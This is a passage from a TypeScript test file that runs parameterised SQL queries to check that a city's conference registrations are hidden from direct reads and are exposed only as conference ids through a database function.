      const hidden = await app.query(
        'SELECT count(*)::int AS n FROM registration WHERE city_id = $1',
        [zittauId],
      );
      expect(hidden.rows[0].n).toBe(0);
      // ... the function answers only the conference ids, one column, of that city's active registrations.
      const answer = await app.query(
        'SELECT * FROM conference_ids_registered_by($1) AS id ORDER BY 1',
        [zittauId],
      );
      expect(answer.fields.map((field) => field.name)).toEqual(['id']);
      expect(answer.rows.map((row: { id: string }) => row.id)).toEqual(
        expected.map((row) => row.id),
      );
      const goch = await app.query('SELECT * FROM conference_ids_registered_by($1) AS id', [
        gochId,
      ]);
      expect(goch.rows.map((row: { id: string }) => row.id)).not.toContain(id);
      await app.query('ROLLBACK');
    } finally {
      await app.end();
    }
  });
});
